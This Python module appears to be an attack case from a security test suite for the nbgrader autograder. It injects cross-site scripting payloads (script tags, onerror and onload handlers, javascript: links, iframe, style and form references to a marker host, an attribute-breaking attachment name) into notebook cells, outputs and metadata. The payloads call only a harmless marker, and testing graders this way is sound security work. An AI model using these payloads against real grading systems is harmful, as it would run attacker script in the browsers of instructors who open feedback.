"""Put scripts, forms, frames and styles into texts, outputs, attachments and names, for whoever opens the feedback.

Known to work against stock nbgrader: markdown and HTML outputs are shown as they are.
"""
CELLS_BEFORE = [
    """
from IPython.display import HTML, Javascript, SVG, Markdown, display
bad = "<script>planted_by_attack()</script><img src=x onerror='planted_by_attack()'><iframe src=//planted_by_attack></iframe>"
display(HTML(bad), Javascript("planted_by_attack()"), SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload='planted_by_attack()'>{bad}</svg>"), Markdown(bad))
print(bad)
raise ValueError(bad)
"""
]
NOT_IN_TAGS = "planted_by_attack"


def damage(notebook):
    from nbformat.v4 import new_markdown_cell, new_raw_cell

    bad = (
        "<script>planted_by_attack()</script> <img src=x onerror=planted_by_attack()> "
        "[a](javascript:planted_by_attack()) <style>@import '//planted_by_attack'</style> <form action=//planted_by_attack>"
        "<svg onload=planted_by_attack()> $\\href{javascript:planted_by_attack()}{x}$"
    )
    notebook.cells.insert(0, new_markdown_cell(bad, attachments={'x" onerror="planted_by_attack()': {"image/png": bad}}))
    notebook.cells.append(new_raw_cell(bad))
    notebook.metadata["title"] = bad
    return notebook


# --- the answer ---
def answer(*values, **options):
    return 1
